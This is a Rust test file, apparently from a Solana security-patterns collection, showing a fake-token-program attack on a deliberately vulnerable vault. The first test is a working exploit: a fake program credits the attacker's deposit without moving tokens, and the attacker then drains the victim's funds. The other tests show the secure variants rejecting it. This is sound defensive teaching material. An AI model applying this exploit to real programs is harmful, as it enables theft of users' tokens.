@@ -0,0 +1,393 @@
+/// # Pattern 26: Fake Token Program — Mollusk Exploit Tests
+///
+/// The vault holds the victim's 1,000 tokens, and the victim's position
+/// records the deposit. The victim's wallet holds another 500. The
+/// attacker has an empty token account for the vault's mint, an empty
+/// position, and a deployed `fake_token` program that returns success for
+/// any instruction.
+///
+/// - Test 1: EXPLOIT — the attacker deposits 1,000 through
+///   deposit_vulnerable with fake_token as the token program. Nothing
+///   moves, the position is credited, and the attacker withdraws the
+///   victim's 1,000 real tokens.
+/// - Test 2: SECURE — deposit_secure rejects fake_token.
+/// - Test 3: SECURE — deposit_interface_secure rejects fake_token.
+/// - Test 4: SANITY — the victim deposits 200 through deposit_secure and
+///   300 through deposit_interface_secure with SPL Token.
+///
+/// Both programs must be built into SBF_OUT_DIR (`fake_token.so` comes
+/// from `patterns/26-fake-token-program/attacker`), next to `spl_token.so`.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+use test_harness::token::{token_account, Mint, TokenAccount};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("Wa4WByWJ2dQspTcuRpHX9uzTjuiekeU6ppDCeusGNjp");
+const FAKE_TOKEN_PROGRAM_ID: Pubkey =
+    solana_sdk::pubkey!("AidGED25jJsHETCxovCeihpU2ywR2Kpjn7c5k4V4LBDc");
+const TOKEN_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
+
+const RENT: u64 = 2_000_000;
+const MINT_RENT: u64 = 1_461_600;
+const WALLET: u64 = 10_000_000_000;
+
+const DECIMALS: u8 = 6;
+/// The victim's deposit, and what the attacker claims to deposit.
+const DEPOSIT: u64 = 1_000;
+/// Tokens the victim still holds in their wallet.
+const HELD: u64 = 500;
+
+// Error codes
+const INVALID_PROGRAM_ID: u32 = 3008;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Vault account:
+///   [8 disc][32 mint][32 vault_token][1 bump]
+fn serialize_vault(mint: &Pubkey, vault_token: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(73);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(mint.as_ref());
+    data.extend_from_slice(vault_token.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Position account:
+///   [8 disc][32 vault][32 owner][8 amount][1 bump]
+fn serialize_position(vault: &Pubkey, owner: &Pubkey, amount: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(81);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(vault.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&amount.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize an SPL Token mint with no authorities.
+fn serialize_mint(supply: u64) -> Vec<u8> {
+    Mint {
+        supply,
+        decimals: DECIMALS,
+        ..Mint::default()
+    }
+    .pack()
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+fn new_mollusk() -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "fake_token_program");
+    mollusk.add_program(
+        &TOKEN_PROGRAM_ID,
+        "spl_token",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk.add_program(
+        &FAKE_TOKEN_PROGRAM_ID,
+        "fake_token",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk
+}
+
+/// One user: a wallet, a token account for the vault's mint, and a
+/// position in the vault.
+struct User {
+    key: Pubkey,
+    token: Pubkey,
+    position: Pubkey,
+    position_bump: u8,
+}
+
+impl User {
+    fn new(vault: &Pubkey) -> Self {
+        let key = Pubkey::new_unique();
+        let (position, position_bump) =
+            Pubkey::find_program_address(&[b"position", vault.as_ref(), key.as_ref()], &PROGRAM_ID);
+        Self {
+            key,
+            token: Pubkey::new_unique(),
+            position,
+            position_bump,
+        }
+    }
+}
+
+struct Setup {
+    vault: Pubkey,
+    mint: Pubkey,
+    vault_token: Pubkey,
+    victim: User,
+    attacker: User,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let mint = Pubkey::new_unique();
+        let vault_token = Pubkey::new_unique();
+        let (vault, vault_bump) =
+            Pubkey::find_program_address(&[b"vault", mint.as_ref()], &PROGRAM_ID);
+        let victim = User::new(&vault);
+        let attacker = User::new(&vault);
+
+        let mut ledger = vec![
+            (
+                vault,
+                owned_account(
+                    &serialize_vault(&mint, &vault_token, vault_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                mint,
+                owned_account(
+                    &serialize_mint(DEPOSIT + HELD),
+                    MINT_RENT,
+                    &TOKEN_PROGRAM_ID,
+                ),
+            ),
+            (vault_token, token_account(&TOKEN_PROGRAM_ID, &mint, &vault, DEPOSIT)),
+            (
+                TOKEN_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+            (
+                FAKE_TOKEN_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+        ];
+        for (user, deposited, held) in [(&victim, DEPOSIT, HELD), (&attacker, 0, 0)] {
+            ledger.extend([
+                (user.key, system_account()),
+                (user.token, token_account(&TOKEN_PROGRAM_ID, &mint, &user.key, held)),
+                (
+                    user.position,
+                    owned_account(
+                        &serialize_position(&vault, &user.key, deposited, user.position_bump),
+                        RENT,
+                        &PROGRAM_ID,
+                    ),
+                ),
+            ]);
+        }
+
+        Self {
+            vault,
+            mint,
+            vault_token,
+            victim,
+            attacker,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// deposit_vulnerable / deposit_secure, with `token_program` as given.
+    fn deposit(&self, name: &str, user: &User, token_program: Pubkey, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.vault, false),
+                AccountMeta::new(self.vault_token, false),
+                AccountMeta::new(user.token, false),
+                AccountMeta::new(user.position, false),
+                AccountMeta::new_readonly(user.key, true),
+                AccountMeta::new_readonly(token_program, false),
+            ],
+        )
+    }
+
+    /// deposit_interface_secure and withdraw share one account list, which
+    /// adds the mint for `transfer_checked`.
+    fn with_mint(
+        &self,
+        name: &str,
+        user: &User,
+        token_program: Pubkey,
+        amount: u64,
+    ) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.vault, false),
+                AccountMeta::new_readonly(self.mint, false),
+                AccountMeta::new(self.vault_token, false),
+                AccountMeta::new(user.token, false),
+                AccountMeta::new(user.position, false),
+                AccountMeta::new_readonly(user.key, true),
+                AccountMeta::new_readonly(token_program, false),
+            ],
+        )
+    }
+
+    fn position_data(&self, user: &User, amount: u64) -> Vec<u8> {
+        serialize_position(&self.vault, &user.key, amount, user.position_bump)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_fake_token_program_deposit_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Attacker: deposit_vulnerable(1,000) with fake_token as the token
+    //      program, from their empty token account
+    //   2. Attacker: withdraw(1,000) through SPL Token
+    //
+    // Expected: both SUCCEED. The deposit moves nothing, the vault still
+    //           holds the victim's 1,000, and the attacker's position reads
+    //           1,000. The withdrawal pays the victim's tokens to the
+    //           attacker and leaves the vault empty while the victim's
+    //           position still reads 1,000.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault_token, attacker_token, attacker_position) =
+        (s.vault_token, s.attacker.token, s.attacker.position);
+
+    let ix = s.deposit(
+        "deposit_vulnerable",
+        &s.attacker,
+        FAKE_TOKEN_PROGRAM_ID,
+        DEPOSIT,
+    );
+    let untouched = TokenAccount::new(&s.mint, &s.vault, DEPOSIT).pack();
+    let empty = TokenAccount::new(&s.mint, &s.attacker.key, 0).pack();
+    let credited = s.position_data(&s.attacker, DEPOSIT);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token).data(&untouched).build(),
+            Check::account(&attacker_token).data(&empty).build(),
+            Check::account(&attacker_position).data(&credited).build(),
+        ],
+    );
+
+    let ix = s.with_mint("withdraw", &s.attacker, TOKEN_PROGRAM_ID, DEPOSIT);
+    let drained = TokenAccount::new(&s.mint, &s.vault, 0).pack();
+    let stolen = TokenAccount::new(&s.mint, &s.attacker.key, DEPOSIT).pack();
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token).data(&drained).build(),
+            Check::account(&attacker_token).data(&stolen).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_rejects_fake_token_program() {
+    // -----------------------------------------------------------------------
+    // SECURE: The attacker tries the same deposit through deposit_secure.
+    //
+    // Expected: FAILS with InvalidProgramId (3008). `Program<Token>` only
+    //           accepts SPL Token's id, so nothing is credited.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+
+    let ix = s.deposit(
+        "deposit_secure",
+        &s.attacker,
+        FAKE_TOKEN_PROGRAM_ID,
+        DEPOSIT,
+    );
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(INVALID_PROGRAM_ID))],
+    );
+}
+
+#[test]
+fn secure_interface_rejects_fake_token_program() {
+    // -----------------------------------------------------------------------
+    // SECURE: The attacker tries the same deposit through
+    // deposit_interface_secure.
+    //
+    // Expected: FAILS with InvalidProgramId (3008). `Interface<TokenInterface>`
+    //           accepts SPL Token and Token-2022, and fake_token is neither.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+
+    let ix = s.with_mint(
+        "deposit_interface_secure",
+        &s.attacker,
+        FAKE_TOKEN_PROGRAM_ID,
+        DEPOSIT,
+    );
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(INVALID_PROGRAM_ID))],
+    );
+}
+
+#[test]
+fn sanity_spl_token_deposits_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: The victim deposits 200 through deposit_secure and 300
+    // through deposit_interface_secure, both with SPL Token.
+    //
+    // Expected: both SUCCEED. The tokens move each time; afterwards the
+    //           vault holds 1,500 and the victim's position reads 1,500.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault_token, victim_token, victim_position) =
+        (s.vault_token, s.victim.token, s.victim.position);
+
+    let ix = s.deposit("deposit_secure", &s.victim, TOKEN_PROGRAM_ID, 200);
+    let held = TokenAccount::new(&s.mint, &s.victim.key, HELD - 200).pack();
+    let position = s.position_data(&s.victim, DEPOSIT + 200);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&victim_token).data(&held).build(),
+            Check::account(&victim_position).data(&position).build(),
+        ],
+    );
+
+    let ix = s.with_mint("deposit_interface_secure", &s.victim, TOKEN_PROGRAM_ID, 300);
+    let vault_held = TokenAccount::new(&s.mint, &s.vault, DEPOSIT + HELD).pack();
+    let position = s.position_data(&s.victim, DEPOSIT + HELD);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token).data(&vault_held).build(),
+            Check::account(&victim_position).data(&position).build(),
+        ],
+    );
+}